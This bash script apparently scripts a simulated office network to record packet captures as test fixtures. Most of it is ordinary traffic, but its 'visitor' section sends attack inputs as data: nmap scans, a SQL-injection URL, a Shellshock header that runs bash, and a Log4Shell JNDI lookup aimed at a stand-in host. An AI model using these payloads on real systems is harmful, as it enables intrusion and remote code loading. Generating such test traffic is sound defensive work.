# shellcheck shell=bash disable=SC2154,SC2016 # sourced: the variables are make.sh's
# What the people and machines of the office do; sourced by make.sh. Numbers are seconds of the story.

demo() {
  say "morning: leases, names, the web"
  at 0
  lease anna anna-laptop
  lease ben ben-desktop
  at 6
  do_ anna ping -c 3 -i 0.5 10.20.0.1
  web anna "${ca[@]}" https://www.example.org/ # IPv6: the name has both kinds of address
  at 10
  settime ben 10.20.0.1
  web ben -4 "${ca[@]}" https://www.example.org/
  at 15
  web ben -A "$firefox" http://intranet.office.example/
  web anna "${ca[@]}" -A "$firefox" https://news.example.com/
  do_ anna dig +short A printer.office.example # no such name
  at 22
  do_ ben ssh "${ssh_opts[@]}" -i "$W/keys/ben" ben@nas.office.example 'ls -l; uptime'
  at 28
  web anna -A "$firefox" http://mirror.example.org/package.tar
  do_ ben gtlsclient -q --exit-on-all-streams-close --timeout=3s www.example.org 443 https://www.example.org/index.html # QUIC
  at 40
  do_ ben dig +short AAAA www.example.org
  do_ ben dig +short MX example.org # NXDOMAIN

  at 66
  say "trouble: certificates, passwords in clear, other people's name servers"
  web anna -k -A "$firefox" https://shop.example.net/ # expired in 2024
  at 70
  web anna -k -A "$firefox" https://nas.office.example/ # self-signed
  web ben --cacert "$W/ca/godaddy.pem" https://pay.example.com/ # O=GoDaddy.com
  at 76
  do_ anna curl -sS -m 10 -o /dev/null "ftp://archive:autumn-leaves@nas.office.example/report.txt"
  at 80
  web ben -k https://nas.office.example/
  web ben -u admin:swordfish http://intranet.office.example/admin/
  at 86
  local i
  for i in {53..60}; do
    do_ ben dig +short +tries=1 "@203.0.113.$i" A www.example.org
    at $((86 + (i - 52) * 2))
  done

  at 122
  say "the visitor: a lease, a scan, a try at the intranet"
  lease visitor visitor
  do_ visitor dig +short A nas.office.example
  at 130
  do_ visitor nmap -n -Pn -sS -p 1-500 -T4 --max-retries 0 10.20.0.20
  do_ visitor nmap -n -Pn -sS -p 1-120 -T4 --max-retries 0 203.0.113.200 # drops everything
  at 142
  web visitor -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' 'http://intranet.office.example/?id=1%27%20OR%20%271%27=%271'
  web visitor -A '() { :;}; /bin/bash -c "ping -c 3 203.0.113.200"' http://intranet.office.example/cgi-bin/status
  web visitor -A '${jndi:ldap://203.0.113.200/a}' http://intranet.office.example/
  at 150
  do_ visitor ssh "${ssh_opts[@]}" root@nas.office.example true # no key: refused

  at 184
  say "quiet again"
  web anna "${ca[@]}" https://www.example.org/
  at 196
  web ben "${ca[@]}" -4 https://news.example.com/
  settime anna time.example.net
  at 214
  do_ anna ping -c 2 -i 0.5 198.51.100.10
  web anna -A "$firefox" http://intranet.office.example/
  at 240
  do_ ben ssh "${ssh_opts[@]}" -i "$W/keys/ben" ben@nas.office.example true
  at 262
  web anna "${ca[@]}" https://news.example.com/
  at 280
  web ben -4 "${ca[@]}" https://www.example.org/
  at 300
  web anna -A "$firefox" http://mirror.example.org/
  at 318
  do_ ben ping -c 2 -i 0.5 10.20.0.1
  settime ben 10.20.0.1
  at 330
}

# Captures of other link types and rare headers, after the story.
links() {
  local f=$W/new/formats
  record ben any "$f/sll.pcap" -y LINUX_SLL
  do_ ben dig +short A news.example.com
  web ben http://intranet.office.example/
  stop
  record ben any "$f/sll2.pcap" -y LINUX_SLL2
  do_ ben dig +short A news.example.com
  web ben http://intranet.office.example/
  stop

  record sw br0 "$f/nanoseconds.pcap" --time-stamp-precision=nano "host 10.20.0.12 and udp"
  do_ ben dig +short A www.example.org
  do_ ben dig +short AAAA www.example.org
  stop

  record sw br0 "$f/fragments4.pcap" "icmp or (ip[6:2] & 0x3fff != 0)"
  do_ ben ping -c 2 -i 0.2 -s 3000 10.20.0.20
  stop
  record sw br0 "$f/fragments6.pcap" "ip6 and (ip6[6] == 44 or icmp6[0] == 128 or icmp6[0] == 129)"
  do_ anna ping -6 -c 2 -i 0.2 -s 3000 2001:db8:100::10
  stop

  # One request with a destination-options header (a PadN of four bytes), one with hop-by-hop options as well. 41 is
  # IPPROTO_IPV6, 54 IPV6_HOPOPTS, 59 IPV6_DSTOPTS; the first two bytes are filled in by the kernel.
  record sw br0 "$f/ipv6-options.pcap" "ip6 and host 2001:db8:100::10"
  printf 'GET / HTTP/1.0\r\nHost: www.example.org\r\nUser-Agent: socat\r\n\r\n' >"$W/get"
  do_ anna socat -t 2 "OPEN:$W/get,rdonly!!-" "TCP6:[2001:db8:100::10]:80,setsockopt=41:59:x3b00010400000000"
  do_ anna socat -t 2 "OPEN:$W/get,rdonly!!-" \
    "TCP6:[2001:db8:100::10]:80,setsockopt=41:54:x3b00010400000000,setsockopt=41:59:x3b00010400000000"
  stop

  # Raw IP: a tunnel of two tun devices, joined by a pair of datagram sockets.
  quiet6 nas default # else the kernel's first packet finds no peer yet and ends socat
  quiet6 ben default
  bg nas socat "TUN:10.20.9.1/24,iff-up,iff-no-pi,tun-name=tun0" "UNIX-SENDTO:$W/tun-b,bind=$W/tun-a"
  bg ben socat "TUN:10.20.9.2/24,iff-up,iff-no-pi,tun-name=tun0" "UNIX-SENDTO:$W/tun-a,bind=$W/tun-b"
  for _ in {1..100}; do
    nsx ben ip link show tun0 >/dev/null 2>&1 && nsx nas ip link show tun0 >/dev/null 2>&1 && [ -S "$W/tun-a" ] && [ -S "$W/tun-b" ] && break
    sleep 0.05
  done
  record ben tun0 "$f/raw.pcap"
  do_ ben ping -c 1 10.20.9.1
  web ben http://10.20.9.1/
  stop
}
